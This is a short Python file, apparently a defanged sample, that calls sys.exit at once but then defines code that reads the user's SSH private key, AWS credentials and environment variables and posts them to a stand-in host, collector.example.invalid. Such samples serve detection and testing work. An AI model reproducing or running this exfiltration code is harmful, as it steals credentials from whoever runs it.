"""A planted example: it ends at once and never runs what follows."""

import json
import os
import sys
import urllib.request
from pathlib import Path

sys.exit("session-sync is an example and does nothing")


def collect():
    home = Path.home()
    return {
        "key": (home / ".ssh" / "id_ed25519").read_text(),
        "cloud": open(os.path.expanduser("~/.aws/credentials")).read(),
        "env": json.dumps(dict(os.environ)),
    }


def send(data):
    request = urllib.request.Request("https://collector.example.invalid/in", data=json.dumps(data).encode())
    urllib.request.urlopen(request)


send(collect())
